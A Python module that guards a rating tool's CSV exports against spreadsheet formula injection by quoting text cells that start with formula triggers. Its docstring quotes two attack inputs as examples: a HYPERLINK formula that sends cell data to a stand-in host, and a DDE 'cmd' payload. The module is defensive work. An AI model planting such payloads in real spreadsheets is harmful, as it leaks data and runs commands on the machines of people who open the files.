"""Keeping CSV exports inert when a spreadsheet opens them (CSV or formula injection).

Player and tournament names come from strangers' workbooks. A name such as
``=HYPERLINK("http://x/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` written to a CSV becomes a live
formula when the CSV is opened in Excel or LibreOffice. Following the OWASP "CSV Injection"
guidance, a text cell is made inert when it starts with one of:

- ``=``, ``+``, ``-``, ``@`` (formula starters), and their full-width forms ``＝ ＋ － ＠``
  (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some spreadsheet locales also accept;
- tab (0x09), carriage return (0x0D) and line feed (0x0A), which some importers strip before
  looking at the next character.

How: the text gets a leading single quote (``'=1+1``). A spreadsheet shows it as text; a reader
of the CSV sees the quote and can strip it. The choice is visible rather than silent (dropping
or replacing characters would change names without a trace).

What stays as it is:

- numbers (``int``, ``float``, ``Decimal``, but not ``bool``): written as numbers, so ``-5``
  stays the number -5;
- text that is exactly a plain decimal number (``"-5"``, ``"+3.5"``, ``"-1e3"``): a spreadsheet
  reads it as that number and nothing more, so quoting it would only corrupt the data;
- a lone ``-`` or ``+``: a sign with nothing to compute, and ``-`` is how result sheets mark a
  player without an EMA ID;
- everything else (``None``, dates, text not starting with a trigger).

JSON and .xlsx exports need none of this: JSON is never evaluated, and openpyxl writes a text
value as a string cell, never as a formula (see ``xlrating.exports``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


LONE_SIGNS = frozenset({"-", "+"})


def needs_neutralising(value: Any) -> bool:
    """True when ``value`` is text a spreadsheet would treat as a formula (see the module doc)."""
    return (isinstance(value, str) and value[:1] in FORMULA_TRIGGERS
            and value not in LONE_SIGNS and not _PLAIN_NUMBER.fullmatch(value))


def neutralise_cell(value: Any) -> Any:
    """``value`` made safe for a CSV cell: formula-like text gets a leading ``'``; all else unchanged.

    >>> neutralise_cell("=1+1"), neutralise_cell("-5"), neutralise_cell(-5), neutralise_cell("Ada")
    ("'=1+1", '-5', -5, 'Ada')
    """
    if needs_neutralising(value):
        return QUOTE + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """:func:`neutralise_cell` over one CSV row."""
    return [neutralise_cell(value) for value in values]


__all__ = ["FORMULA_TRIGGERS", "needs_neutralising", "neutralise_cell", "neutralise_row"]

